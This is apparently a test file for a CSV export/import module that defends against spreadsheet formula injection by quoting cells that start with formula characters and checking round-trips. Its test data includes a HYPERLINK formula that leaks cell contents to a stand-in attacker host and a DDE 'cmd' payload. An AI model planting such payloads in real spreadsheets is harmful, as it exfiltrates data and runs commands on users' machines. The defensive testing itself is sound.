import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Database } from '../../src/db/database';
import { formatCsvField, neutralizeFormula, parseCsv, restoreFormula } from '../../src/import/csv';
import { exportFolder } from '../../src/import/export';
import { importFolder } from '../../src/import/importer';
import { FILES } from '../../src/import/records';
import { resetDatabase, testDatabase } from '../support/db';

/**
 * Spreadsheet formula injection through CSV export: cells a spreadsheet would run as formulas are
 * written with a leading quote, import strips it, and export -> import -> export is byte-identical.
 */
const HOSTILE = [
  '=HYPERLINK("http://attacker.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  "'=already quoted",
  "''+twice",
  "'plain quote",
  '=',
  'a=b',
];

describe('the cell rule', () => {
  it.each(HOSTILE)('%j survives neutralize -> restore, and is never written as a formula', (text) => {
    expect(restoreFormula(neutralizeFormula(text))).toBe(text);
    const cell = parseCsv(`x\n${formatCsvField(text)}\n`)[1].fields[0];
    expect(cell).toBe(text);
    const written = formatCsvField(text).replace(/^"/, '');
    expect(written).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('leaves ordinary text and numbers alone', () => {
    expect(formatCsvField('Ada Lovelace')).toBe('Ada Lovelace');
    expect(formatCsvField("O'Brien")).toBe("O'Brien");
    expect(formatCsvField(-0.5)).toBe('-0.5');
    expect(formatCsvField('2026-01-05')).toBe('2026-01-05');
  });
});

describe('export -> import -> export with hostile cells', () => {
  let db: Database;
  let tmp: string;
  beforeAll(async () => {
    db = testDatabase();
    await resetDatabase(db);
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'csv-formula-'));
  });
  afterAll(async () => {
    await db.close();
    fs.rmSync(tmp, { recursive: true, force: true });
  });

  it('writes quoted cells, stores the original text, and reproduces the same bytes', async () => {
    const source = path.join(tmp, 'source');
    fs.mkdirSync(source);
    const csv = (rows: string[][]) => rows.map((row) => row.map((v) => formatCsvField(v)).join(',')).join('\n') + '\n';
    fs.writeFileSync(
      path.join(source, 'territories.csv'),
      csv([
        ['id', 'name', 'region'],
        ['ter-1', '=1+1', '@region'],
      ]),
    );
    fs.writeFileSync(
      path.join(source, 'hcps.csv'),
      csv([
        ['id', 'firstName', 'lastName', 'specialty', 'institutionId', 'territoryId', 'therapeuticAreaIds', 'email'],
        ['hcp-1', HOSTILE[0], HOSTILE[1], HOSTILE[2], '', 'ter-1', '', ''],
        ['hcp-2', HOSTILE[3], "'=already quoted", "''+twice", '', 'ter-1', '', ''],
      ]),
    );
    fs.writeFileSync(
      path.join(source, 'msls.csv'),
      csv([
        ['id', 'firstName', 'lastName', 'email', 'territoryId', 'therapeuticAreaIds'],
        ['msl-1', 'M', "'plain quote", '', 'ter-1', ''],
      ]),
    );
    fs.writeFileSync(
      path.join(source, 'interactions.csv'),
      csv([
        ['id', 'mslId', 'hcpId', 'date', 'channel', 'topic', 'sentiment', 'notes'],
        ['int-1', 'msl-1', 'hcp-1', '2026-01-05', 'EMAIL', '\t=1', 'NEUTRAL', '-cmd'],
      ]),
    );
    await importFolder(db, source);
    const [stored] = await db.read<{ first: string; last: string; topic: string; notes: string }>(
      "MATCH (h:HCP {id: 'hcp-1'}), (i:Interaction {id: 'int-1'}) RETURN h.firstName AS first, h.lastName AS last, i.topic AS topic, i.notes AS notes",
    );
    expect(stored).toEqual({ first: HOSTILE[0], last: HOSTILE[1], topic: '\t=1', notes: '-cmd' });

    const first = path.join(tmp, 'export-1');
    await exportFolder(db, first);
    const hcps = fs.readFileSync(path.join(first, 'hcps.csv'), 'utf8');
    expect(hcps).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1,""click"")"`);
    expect(hcps).toContain("'@SUM(A1:A9)");
    expect(hcps).toContain("''=already quoted");
    // No cell of any exported file begins with a formula character.
    for (const spec of FILES) {
      const file = path.join(first, spec.file);
      if (!fs.existsSync(file)) continue;
      for (const line of fs.readFileSync(file, 'utf8').split('\n')) {
        for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t]|^-[^0-9]/);
      }
    }

    await resetDatabase(db);
    await importFolder(db, first);
    const second = path.join(tmp, 'export-2');
    await exportFolder(db, second);
    for (const spec of FILES) {
      const a = path.join(first, spec.file);
      if (fs.existsSync(a)) expect(fs.readFileSync(path.join(second, spec.file), 'utf8')).toBe(fs.readFileSync(a, 'utf8'));
    }
  });
});
